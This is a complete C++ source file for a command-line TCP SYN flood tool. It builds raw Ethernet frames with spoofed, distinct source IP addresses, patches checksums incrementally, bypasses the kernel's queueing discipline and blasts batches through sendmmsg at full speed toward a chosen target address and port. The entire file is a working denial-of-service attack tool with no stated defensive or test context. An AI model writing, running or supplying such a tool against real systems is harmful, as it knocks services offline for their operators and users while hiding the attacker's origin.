// sluice-syn-flood: SYNs with distinct spoofed sources, as fast as a packet socket takes them.
//
//   sluice-syn-flood --interface eth0 --to-mac MAC --to 10.99.1.10 --port 443 --count 1000000
//
// Job: `count` frames, each with another source address - 64.0.0.0 onwards, in an order that jumps
// - and a source port and sequence number of its own, with the options of a usual client. One frame
// is made beforehand; what differs is written into it and its checksums are corrected by the
// difference. sendmmsg hands a batch to the kernel past its queueing discipline; where the link
// takes no more, it waits for it. Prints how many were sent, in how long. Ends at the count or
// after `seconds`.
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ether.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <CLI/CLI.hpp>
#include <array>
#include <cerrno>
#include <chrono>
#include <cstdio>
#include <cstring>

namespace {

constexpr uint32_t kMaxCount = 1U << 24;  // of distinct sources
constexpr uint32_t kFirstSource = 64U << 24;
constexpr uint32_t kJump = 9'973'567;  // odd: every number below 2^24 comes once
constexpr size_t kIpAt = 14;
constexpr size_t kTcpAt = kIpAt + 20;
constexpr size_t kTcpBytes = 40;
constexpr size_t kFrameBytes = kTcpAt + kTcpBytes;
constexpr unsigned kBatch = 64;

struct Options {
  std::string interface;
  std::string to_mac;
  std::string to;
  uint16_t port = 443;
  uint32_t count = 1'000'000;
  uint32_t rate = 0;  // a second; 0: as fast as it goes
  uint32_t seconds = 60;
};

using Frame = std::array<uint8_t, kFrameBytes>;

void put16(Frame& frame, size_t at, uint32_t value) {
  frame[at] = static_cast<uint8_t>(value >> 8);
  frame[at + 1] = static_cast<uint8_t>(value);
}

void put32(Frame& frame, size_t at, uint32_t value) {
  put16(frame, at, value >> 16);
  put16(frame, at + 2, value);
}

uint32_t sum(const Frame& frame, size_t from, size_t to) {
  uint32_t total = 0;
  for (size_t i = from; i < to; i += 2) {
    total += static_cast<uint32_t>(frame[i] << 8 | frame[i + 1]);
  }
  return total;
}

uint16_t finish(uint32_t total) {
  total = (total & 0xffff) + (total >> 16);
  total = (total & 0xffff) + (total >> 16);
  return static_cast<uint16_t>(~total);
}

// Everything but source, port, sequence number and the checksums.
Frame make_template(const ether_addr& to_mac, uint32_t to, uint16_t port) {
  constexpr uint8_t kOptions[] = {2, 4, 5, 180, 4, 2, 8, 10, 0, 0, 0, 1, 0, 0, 0, 0, 1, 3, 3, 7};
  Frame frame = {};
  std::memcpy(frame.data(), to_mac.ether_addr_octet, 6);
  frame[6] = 0x02;  // locally administered
  put16(frame, 12, ETHERTYPE_IP);
  frame[kIpAt] = 0x45;
  put16(frame, kIpAt + 2, kFrameBytes - kIpAt);
  frame[kIpAt + 8] = 64;
  frame[kIpAt + 9] = IPPROTO_TCP;
  put32(frame, kIpAt + 16, to);
  put16(frame, kTcpAt + 2, port);
  frame[kTcpAt + 12] = kTcpBytes / 4 << 4;
  frame[kTcpAt + 13] = 0x02;  // SYN
  put16(frame, kTcpAt + 14, 64240);
  std::memcpy(frame.data() + kTcpAt + 20, kOptions, sizeof kOptions);
  return frame;
}

class Flood {
 public:
  Flood(int socket, const Frame& shape) : socket_(socket) {
    ip_sum_ = sum(shape, kIpAt, kTcpAt);
    tcp_sum_ = sum(shape, kTcpAt, kFrameBytes) + sum(shape, kIpAt + 16, kTcpAt) + IPPROTO_TCP +
               static_cast<uint32_t>(kTcpBytes);
    for (unsigned i = 0; i < kBatch; ++i) {
      frames_[i] = shape;
      pieces_[i] = {frames_[i].data(), frames_[i].size()};
      messages_[i].msg_hdr.msg_iov = &pieces_[i];
      messages_[i].msg_hdr.msg_iovlen = 1;
    }
  }

  // Sends SYNs `first` and following, at most a batch. How many were taken; -1: errno says why.
  int send(uint32_t first, uint32_t count) {
    const unsigned batch = count < kBatch ? count : kBatch;
    for (unsigned i = 0; i < batch; ++i) fill(frames_[i], first + i);
    return sendmmsg(socket_, messages_.data(), batch, MSG_DONTWAIT);
  }

 private:
  void fill(Frame& frame, uint32_t number) const {
    const uint32_t source = kFirstSource + (number * kJump & (kMaxCount - 1));
    const uint32_t sequence = number * 2'654'435'761U;
    const uint16_t port = static_cast<uint16_t>(1024 + number % 60'000);
    put32(frame, kIpAt + 12, source);
    put16(frame, kTcpAt, port);
    put32(frame, kTcpAt + 4, sequence);
    const uint32_t halves = (source >> 16) + (source & 0xffff);
    put16(frame, kIpAt + 10, finish(ip_sum_ + halves));
    put16(frame, kTcpAt + 16,
          finish(tcp_sum_ + halves + port + (sequence >> 16) + (sequence & 0xffff)));
  }

  int socket_;
  uint32_t ip_sum_;
  uint32_t tcp_sum_;
  std::array<Frame, kBatch> frames_;
  std::array<iovec, kBatch> pieces_{};
  std::array<mmsghdr, kBatch> messages_{};
};

int open_socket(const std::string& interface) {
  const int made = socket(AF_PACKET, SOCK_RAW, 0);  // protocol 0: it receives nothing
  sockaddr_ll address = {};
  address.sll_family = AF_PACKET;
  address.sll_ifindex = static_cast<int>(if_nametoindex(interface.c_str()));
  const int on = 1;
  if (made < 0 || address.sll_ifindex == 0 ||
      bind(made, reinterpret_cast<sockaddr*>(&address), sizeof address) != 0 ||
      setsockopt(made, SOL_PACKET, PACKET_QDISC_BYPASS, &on, sizeof on) != 0) {
    return -1;
  }
  return made;
}

int fail(const std::string& what) {
  std::fprintf(stderr, "sluice-syn-flood: %s: %s\n", what.c_str(), std::strerror(errno));
  return 1;
}

// How many may have been sent by now.
uint32_t allowance(const Options& options, double elapsed) {
  if (options.rate == 0) return options.count;
  const double allowed = elapsed * options.rate + kBatch;
  return allowed < options.count ? static_cast<uint32_t>(allowed) : options.count;
}

int flood(const Options& options) {
  const ether_addr* to_mac = ether_aton(options.to_mac.c_str());
  in_addr to = {};
  if (to_mac == nullptr || inet_pton(AF_INET, options.to.c_str(), &to) != 1) {
    errno = EINVAL;
    return fail(options.to_mac + ", " + options.to);
  }
  const int socket = open_socket(options.interface);
  if (socket < 0) return fail(options.interface);
  Flood flood(socket, make_template(*to_mac, ntohl(to.s_addr), options.port));
  const auto begin = std::chrono::steady_clock::now();
  double elapsed = 0;
  uint32_t sent = 0;
  while (sent < options.count && elapsed < options.seconds) {
    const uint32_t allowed = allowance(options, elapsed);
    const int taken = allowed > sent ? flood.send(sent, allowed - sent) : 0;
    if (taken < 0 && errno != ENOBUFS && errno != EAGAIN) return fail("send");
    if (taken > 0) {
      sent += static_cast<uint32_t>(taken);
    } else {
      usleep(100);
    }
    elapsed = std::chrono::duration<double>(std::chrono::steady_clock::now() - begin).count();
  }
  std::printf("{\"sent\": %u, \"seconds\": %.3f}\n", sent, elapsed);
  return sent == options.count ? 0 : 1;
}

}  // namespace

int main(int argc, char** argv) {
  Options options;
  CLI::App app("SYNs with distinct spoofed sources", "sluice-syn-flood");
  app.add_option("--interface", options.interface)->required();
  app.add_option("--to-mac", options.to_mac)->required();
  app.add_option("--to", options.to)->required();
  app.add_option("--port", options.port);
  app.add_option("--count", options.count)->check(CLI::Range(1U, kMaxCount));
  app.add_option("--rate", options.rate, "a second; 0: as fast as it goes");
  app.add_option("--seconds", options.seconds, "end after so many in any case");
  CLI11_PARSE(app, argc, argv);
  return flood(options);
}
